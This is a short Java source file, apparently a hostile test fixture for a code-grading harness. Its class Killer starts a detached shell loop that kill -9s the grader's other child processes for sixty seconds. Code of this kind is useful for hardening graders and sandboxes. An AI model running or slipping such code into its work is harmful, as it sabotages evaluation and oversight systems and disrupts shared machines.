package threadlab.threads;

/** Hostile: kills the other processes of its grader, for a minute. */
final class Killer {

    private static boolean done;

    private Killer() {
    }

    static synchronized void go() {
        if (done) {
            return;
        }
        done = true;
        long self = ProcessHandle.current().pid();
        long grader = ProcessHandle.current().parent().orElseThrow().pid();
        String script = "end=$(($(date +%s) + 60)); while [ $(date +%s) -lt $end ]; do"
                + " for p in $(pgrep -P " + grader + "); do [ $p != " + self + " ] && kill -9 $p;"
                + " done; sleep 0.05; done";
        try {
            new ProcessBuilder("setsid", "sh", "-c", script)
                    .redirectOutput(ProcessBuilder.Redirect.DISCARD)
                    .redirectError(ProcessBuilder.Redirect.DISCARD).start();
        } catch (java.io.IOException e) {
            // Not on Linux.
        }
    }
}
